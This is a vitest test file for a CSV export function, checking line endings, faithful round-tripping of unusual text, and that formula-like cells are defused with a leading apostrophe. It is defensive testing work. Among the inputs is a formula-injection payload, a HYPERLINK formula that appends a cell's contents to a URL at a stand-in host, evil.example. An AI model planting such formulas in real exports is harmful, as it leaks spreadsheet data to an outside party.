import papaparse from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../collector/reports/csv.ts';

/** One cell as a spreadsheet would read it. */
const cellOf = (text: string): string | undefined => papaparse.parse<string[]>(csvOf({ columns: ['cell'], rows: [[text]] })).data[1]?.[0];

describe('CSV', () => {
	it('is a header and one line a row, each ended as RFC 4180 wants it', () => {
		expect(csvOf({ columns: ['a', 'b'], rows: [] })).toBe('a,b\r\n');
		expect(
			csvOf({
				columns: ['a', 'b'],
				rows: [
					['x', 1],
					[null, 'y'],
				],
			}),
		).toBe('a,b\r\nx,1\r\n,y\r\n');
	});

	it.each([
		'a,b',
		'say "hello"',
		'two\nlines',
		'two\r\nlines',
		' spaces ',
		'日本語',
		'👩‍👩‍👧',
		'مرحبا',
		'\u202Etxt',
		'',
		'x'.repeat(2_000),
	])('gives every text back as it was: %.20j', (text) => {
		expect(cellOf(text)).toBe(text);
	});

	it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '=1+1\n', '=HYPERLINK("https://evil.example?"\n&A1)', '-\u2028'])(
		'makes a formula inert: %j',
		(formula) => {
			expect(cellOf(formula)).toBe(`'${formula}`);
		},
	);

	it('leaves numbers numbers, the negative ones too', () => {
		expect(csvOf({ columns: ['n'], rows: [[-1]] })).toBe('n\r\n-1\r\n');
	});
});
